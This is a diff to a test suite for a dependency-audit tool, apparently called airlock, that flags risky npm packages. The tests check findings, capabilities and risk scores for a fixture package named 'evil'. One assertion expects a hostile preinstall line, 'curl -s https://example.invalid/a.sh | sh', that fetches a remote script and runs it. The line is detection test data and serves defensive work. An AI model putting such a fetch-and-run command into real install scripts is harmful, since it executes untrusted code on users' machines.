@@ -8,6 +8,7 @@ import { airlock, tree, type JsonEntry } from './cli-helpers.js';
 import { auditPackages, planPackages, type PackageSummary } from '../../cli/deps.js';
 import { analyze } from '../../analyzer/engine.js';
 import { resolvePolicy } from '../../policy/index.js';
+import { RULES_BY_ID } from '../../rules/index.js';
 
 const FILES: Record<string, string> = {
   'package.json': '{"name":"app","version":"1.0.0"}',
@@ -58,12 +59,11 @@ describe('airlock audit node_modules --profile audit', () => {
   });
 
   it('audits the files install scripts run and raises their findings one level', () => {
-    const setup = log.runs[0]!.results.filter((r) => r.locations[0]!.physicalLocation.artifactLocation.uri === 'node_modules/evil/scripts/setup');
+    const setup = log.runs[0]!.results.filter((r) => r.locations[0]!.physicalLocation.artifactLocation.uri === 'node_modules/evil/scripts/setup' && r.ruleId === 'no-eval');
     assert.equal(setup.length, 1);
-    assert.equal(setup[0]!.ruleId, 'no-eval');
     assert.equal(setup[0]!.level, 'error', 'no-eval is warn in audit, raised to error at install time');
     assert.match(setup[0]!.message.text, /runs at install time: postinstall/);
-    const inner = log.runs[0]!.results.find((r) => r.locations[0]!.physicalLocation.artifactLocation.uri.endsWith('inner/i.js'))!;
+    const inner = log.runs[0]!.results.find((r) => r.ruleId === 'no-eval' && r.locations[0]!.physicalLocation.artifactLocation.uri.endsWith('inner/i.js'))!;
     assert.equal(inner.level, 'warning', 'not reached from a script: not raised');
   });
 
@@ -82,7 +82,9 @@ describe('airlock audit node_modules --profile audit', () => {
 
   it('summarises capabilities, attack stages and a risk score per package', () => {
     const evil = packages.get('evil@1.0.0')!;
-    assert.deepEqual(evil.capabilities, ['dynamic code', 'install scripts']);
+    // capability-inventory (when registered) also reports the env read; the eval alone implies dynamic code.
+    const expected = RULES_BY_ID.has('capability-inventory') ? ['dynamic code', 'env', 'install scripts'] : ['dynamic code', 'install scripts'];
+    assert.deepEqual(evil.capabilities, expected);
     assert.deepEqual(evil.stages, ['execution']);
     assert.equal(evil.level, 'high');
     assert.ok(evil.score >= 7 && evil.score <= 10, String(evil.score));
@@ -99,7 +101,7 @@ describe('airlock audit node_modules --profile audit', () => {
     const run = await airlock(root, ['audit', '--deps']);
     assert.equal(run.code, 1);
     assert.match(run.out, /Packages: 5 packages audited, 3 at medium risk or above/);
-    assert.match(run.out, /\n {2}\d+\s+high\s+evil@1\.0\.0\s+3 errors, 1 warning · dynamic code, install scripts/);
+    assert.match(run.out, /\n {2}\d+\s+high\s+evil@1\.0\.0\s+3 errors, \d+ warnings? · dynamic code, [^\n]*install scripts/);
     assert.match(run.out, /preinstall: curl -s https:\/\/example\.invalid\/a\.sh \| sh/);
     assert.doesNotMatch(run.out, /src\/app\.js/, 'the project itself is not part of a --deps audit');
     const json = await airlock(root, ['audit', '--deps', '-f', 'json']);
